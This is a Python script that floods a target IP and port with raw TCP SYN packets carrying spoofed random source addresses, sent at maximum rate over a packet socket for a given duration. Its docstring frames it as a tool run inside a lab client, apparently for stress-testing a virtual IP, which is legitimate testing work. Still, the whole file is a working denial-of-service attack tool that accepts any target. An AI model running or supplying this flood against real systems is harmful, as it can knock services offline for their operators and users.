#!/usr/bin/python3
"""SYNs from random addresses, as fast as one packet socket takes them, for so many seconds. Prints how many were sent.

Usage: syn_flood.py VIP PORT SECONDS       (IPv4; inside the lab's client)
"""
import json
import os
import re
import socket
import struct
import subprocess
import sys
import time

BATCH = 64


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(vip, port, template):
    """From 198.18.0.0/15, which nobody has."""
    noise = os.urandom(12)
    source = bytes([198, 18 | noise[0] & 1, noise[1], noise[2]])
    tcp = noise[3:5] + struct.pack("!H", port) + noise[5:9] + bytes([0, 0, 0, 0, 0x60, 2, 0xff, 0xff, 0, 0, 0, 0])
    tcp += bytes([2, 4, 5, 0xb4])
    pseudo = source + vip + struct.pack("!HH", 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    header = bytes([0x45, 0]) + struct.pack("!HHH", 20 + len(tcp), 0, 0x4000) + bytes([64, 6, 0, 0]) + source + vip
    return template + header[:10] + struct.pack("!H", checksum(header)) + header[12:] + tcp


def next_hop(vip):
    """(interface, its MAC, the next hop's MAC); the neighbour must be known: something was sent there before."""
    route = subprocess.run(["ip", "route", "get", vip], capture_output=True, text=True, check=True).stdout
    interface = re.search(r"dev (\S+)", route).group(1)
    gateway = re.search(r"via (\S+)", route)
    neighbours = subprocess.run(["ip", "neigh", "show", "dev", interface], capture_output=True, text=True,
                                check=True).stdout
    target = re.escape(gateway.group(1) if gateway else vip)
    peer = re.search(rf"^{target} lladdr (\S+)", neighbours, re.M).group(1)
    own = open(f"/sys/class/net/{interface}/address").read().strip()
    return interface, bytes.fromhex(own.replace(":", "")), bytes.fromhex(peer.replace(":", ""))


def main():
    vip, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    interface, own, peer = next_hop(vip)
    template = peer + own + b"\x08\x00"
    frames = [syn(socket.inet_aton(vip), port, template) for _ in range(20_000)]
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sender.bind((interface, 0))
    until, sent = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        for frame in frames[sent % len(frames):sent % len(frames) + BATCH]:
            try:
                sender.send(frame)
                sent += 1
            except OSError:  # the queue is full
                time.sleep(0.0005)
    print(json.dumps({"sent": sent}))


if __name__ == "__main__":
    main()
